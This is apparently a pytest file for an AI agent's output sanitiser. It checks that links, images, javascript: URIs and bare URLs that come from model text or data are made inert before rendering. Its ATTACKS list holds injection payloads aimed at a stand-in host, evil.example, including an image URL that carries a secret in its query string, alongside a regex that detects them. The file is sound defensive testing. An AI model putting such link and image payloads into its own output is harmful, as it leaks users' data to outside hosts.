"""Text of a model or of the data that tries to become a link or an image. What a browser makes of it is seen
in tests/browser/test_access.py."""

import re

import pytest

from agent.screen import answer_text, evidence_text
from agent.screen.inert import inert

ATTACKS = [
    "![sales](https://evil.example/?q=secret)",
    "[the source](https://evil.example)",
    "[the source](javascript:alert(1))",
    "[the source](//evil.example)",
    "[the source]( https://evil.example 'title')",
    "[the source][1]\n\n[1]: https://evil.example",
    "![x][1]\n\n> [1]: https://evil.example",
    "<https://evil.example>",
    "<mailto:you@evil.example>",
    "https://evil.example",
    "HTTPS://evil.example",
    "www.evil.example",
    "you@evil.example",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[x](#evidence/../https://evil.example) https://evil.example",
]
AS_LINK = re.compile(
    r"\]\((?!#evidence/)|(?<!\\)!\[|^[ >]*\[[^\]]+\]:|(?<!\\)<\w+:|\w://|\bwww\.|\w@\w", re.MULTILINE
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_not_ours_becomes_a_link(attack):
    assert AS_LINK.search(attack)
    assert not AS_LINK.search(inert(attack))
    assert not AS_LINK.search(inert(f"Sales were $5 [D1](#evidence/a/D1). {attack}"))


def test_our_own_links_and_plain_text_stay_as_they_are():
    text = "Sales rose 5% [$5](#figure/a/1) [D1](#evidence/a/D1), [rows](/answers/t/m/D1/csv): 3 < 4! (a:b)"
    assert inert(text) == text


def test_an_answer_and_its_evidence_hold_no_link_of_the_data(answer_with, sales_by_department):
    found = {**sales_by_department, "title": "Sales https://evil.example", "warnings": ["www.evil.example"]}
    text = "Grocery sold $2,316,394 ![x](https://evil.example) [D1]."
    shown = answer_text.answer_markdown(answer_with(found, text=text), "5" * 36)
    assert "#evidence/" in shown
    assert not re.search(r"\]\(https|\w://|\bwww\.", shown)
    assert not re.search(r"\w://|\bwww\.", evidence_text.evidence_page(found, ["www.evil.example"]))
    assert "://" not in answer_text.linker("m")("see https://evil.example")
